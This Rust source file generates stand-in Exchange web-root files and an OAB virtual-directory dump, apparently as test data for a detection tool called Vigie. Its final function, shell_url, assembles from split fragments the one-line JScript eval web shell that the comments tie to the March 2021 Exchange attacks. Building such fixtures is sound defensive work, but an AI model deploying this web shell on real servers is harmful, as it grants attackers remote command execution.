//! Files of the web root. Pages that Exchange ships keep their names and places; what they hold here is ours.

use std::fmt::Write as _;

use super::Build;
use crate::pieces::assemble;

/// Pages of `FrontEnd\HttpProxy\owa\auth` that every build since 2017 ships.
pub const OWA_AUTH: &[&str] = &[
    "errorfe.aspx",
    "expiredpassword.aspx",
    "frowny.aspx",
    "logoff.aspx",
    "logon.aspx",
    "outlookcn.aspx",
    "redirsuiteserviceproxy.aspx",
    "signout.aspx",
];

/// The only page of `FrontEnd\HttpProxy\ecp\auth`.
pub const ECP_AUTH: &[&str] = &["timeoutlogout.aspx"];

/// Front-end folders that hold a `global.asax` and a `web.config`.
pub const FRONT_ENDS: &[&str] =
    &["autodiscover", "ecp", "ews", "mapi", "oab", "owa", "powershell", "rpc", "sync"];

/// A stand-in for a page that Exchange ships: it does nothing but show its name.
pub fn page(name: &str) -> String {
    format!(
        "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n\
         <%-- Stand-in written for an example of Vigie; the page that Exchange ships is Microsoft's. --%>\r\n\
         <!DOCTYPE html>\r\n<html><head><title>{name}</title></head><body>{name}</body></html>\r\n"
    )
}

/// A stand-in for an application file.
pub fn global() -> &'static str {
    "<%@ Application Language=\"C#\" %>\r\n<%-- Stand-in written for an example of Vigie. --%>\r\n"
}

/// A stand-in for a configuration without any rewrite rule.
pub fn web_config() -> &'static str {
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  <system.webServer>\r\n    \
     <httpErrors errorMode=\"DetailedLocalOnly\" />\r\n  </system.webServer>\r\n</configuration>\r\n"
}

/// The page that IIS shows when nothing else is there.
pub fn iis_start() -> &'static str {
    "<!DOCTYPE html>\r\n<html><head><title>IIS Windows Server</title></head><body></body></html>\r\n"
}

/// What ASP.NET keeps of a page that was once compiled: its virtual path, though the page may be gone.
pub fn compiled(virtual_path: &str, assembly: &str, hash: &str) -> String {
    let kind = virtual_path.trim_start_matches('/').replace(['/', '.'], "_");
    format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<preserve resultType=\"3\" virtualPath=\"{virtual_path}\" \
         hash=\"{hash}\" filehash=\"ffffdb4c7e1a6c2e\" flags=\"110000\" assembly=\"{assembly}\" \
         type=\"ASP.{kind}\">\r\n    <filedeps>\r\n        <filedep name=\"{virtual_path}\" />\r\n    \
         </filedeps>\r\n</preserve>\r\n"
    )
}

/// What describes the server to [`oab_dump`].
#[derive(Clone, Copy, Debug)]
pub struct OabDump<'a> {
    /// The server's short name.
    pub server: &'a str,
    /// `C:\Program Files\Microsoft\Exchange Server\V15`.
    pub install: &'a str,
    /// The name that clients use.
    pub site: &'a str,
    /// The build.
    pub build: Build,
    /// The external address of the directory: harmless, or a script.
    pub external_url: &'a str,
    /// The directory's object.
    pub guid: crate::ident::Guid,
}

/// The file that resetting the OAB virtual directory writes: its properties, one a line.
pub fn oab_dump(dump: &OabDump<'_>) -> String {
    let OabDump { server, install, site, build, external_url, guid } = *dump;
    let name = "OAB (Default Web Site)";
    let container = "CN=HTTP,CN=Protocols";
    let version =
        format!("Version {}.{} (Build {}.{})", build.major, build.minor, build.build, build.revision);
    let rows = [
        ("Name", name.to_owned()),
        ("PollInterval", "480".to_owned()),
        ("OfflineAddressBooks", String::new()),
        ("RequireSSL", "True".to_owned()),
        ("BasicAuthentication", "False".to_owned()),
        ("WindowsAuthentication", "True".to_owned()),
        ("OAuthAuthentication", "True".to_owned()),
        ("MetabasePath", format!("IIS://{server}/W3SVC/1/ROOT/OAB")),
        ("Path", format!("{install}\\FrontEnd\\HttpProxy\\OAB")),
        ("ExtendedProtectionTokenChecking", "None".to_owned()),
        ("ExtendedProtectionFlags", String::new()),
        ("ExtendedProtectionSPNList", String::new()),
        ("AdminDisplayVersion", version),
        ("Server", server.to_owned()),
        ("InternalUrl", format!("https://{site}/OAB")),
        ("InternalAuthenticationMethods", "OAuth, WindowsIntegrated".to_owned()),
        ("ExternalUrl", external_url.to_owned()),
        ("ExternalAuthenticationMethods", "OAuth, WindowsIntegrated".to_owned()),
        ("AdminDisplayName", String::new()),
        ("ExchangeVersion", "0.10 (14.0.100.0)".to_owned()),
        ("DistinguishedName", format!("CN={name},{container},CN={server}")),
        ("Identity", format!("{server}\\{name}")),
        ("Guid", guid.to_string()),
        ("ObjectClass", "msExchOABVirtualDirectory".to_owned()),
    ];
    rows.iter().fold(String::new(), |mut text, (name, value)| {
        // Writing into a string cannot fail.
        let _ = write!(text, "{name:<32}: {value}\r\n");
        text
    })
}

/// The external address that carries a one-line shell: what was sent to thousands of servers in March 2021.
pub fn shell_url(letter: char, parameter: &str) -> String {
    let tail = assemble(&["ript>", ");}</sc", "\"unsafe\"", "\"],"]);
    let head = assemble(&[
        "l(Request[\"",
        "va",
        "ad(){e",
        "on Page_Lo",
        "rver\">functi",
        "\" runat=\"se",
        "\"JScript",
        "nguage=",
        "ipt la",
        "<scr",
    ]);
    format!("http://{letter}/{head}{parameter}{tail}")
}
